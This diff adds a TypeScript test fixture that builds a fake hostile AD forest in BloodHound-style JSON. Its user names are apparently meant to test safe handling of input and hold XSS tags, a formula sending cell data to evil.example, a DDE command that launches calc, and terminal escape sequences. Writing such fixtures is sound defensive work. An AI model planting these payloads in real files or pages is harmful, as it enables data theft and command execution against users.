@@ -1,0 +1,51 @@
+/** A small domain whose owner means ill: every name in it tries to be something else where it is shown. */
+
+const ESCAPES = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e\r\n\u0000';
+/** Markup, control sequences, a formula, and 10 kB. */
+export const HOSTILE_NAMES: readonly string[] = [
+  `<script>alert(1)</script>"><img src=x onerror=alert(1)>&quot;`,
+  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `\t=1+1`,
+  `${ESCAPES}GONE${ESCAPES}`,
+  `,";\r\n"x","y"`,
+  '\uff1d1+1',
+  'A'.repeat(10_000),
+];
+
+export const HOSTILE_DOMAIN = 'S-1-5-21-66-6-6';
+const ADMINS = `${HOSTILE_DOMAIN}-512`;
+const idOf = (at: number): string => `${HOSTILE_DOMAIN}-${1100 + at}`;
+
+const file = (type: string, ...data: readonly object[]) => ({
+  data,
+  meta: { methods: 0, type, count: data.length, version: 6 },
+});
+const named = (name: string, more: object = {}) => ({
+  Properties: { name, domain: 'HOSTILE.EXAMPLE', domainsid: HOSTILE_DOMAIN, enabled: true, ...more },
+});
+const right = (id: string) => ({
+  ...{ PrincipalSID: id, PrincipalType: 'User', RightName: 'GenericAll', IsInherited: false },
+  InheritanceHash: '',
+});
+
+/** @returns files by name: users with these names that control Domain Admins and need no password to be asked for */
+export function hostileForest(): Readonly<Record<string, object>> {
+  return {
+    'domains.json': file('domains', {
+      ...{ ObjectIdentifier: HOSTILE_DOMAIN, Aces: [], ChildObjects: [], Trusts: [], Links: [] },
+      ...named(`EVIL\u001b[31m<b>.EXAMPLE`, { collected: true, functionallevel: '2016' }),
+    }),
+    'groups.json': file('groups', {
+      ...{ ObjectIdentifier: ADMINS, Members: [], Aces: HOSTILE_NAMES.map((_, at) => right(idOf(at))) },
+      ...named('=DOMAIN ADMINS@EVIL'),
+    }),
+    'users.json': file(
+      'users',
+      ...HOSTILE_NAMES.map((name, at) => ({
+        ...{ ObjectIdentifier: idOf(at), Aces: [] },
+        ...named(name, { dontreqpreauth: true, hasspn: false }),
+      })),
+    ),
+  };
+}
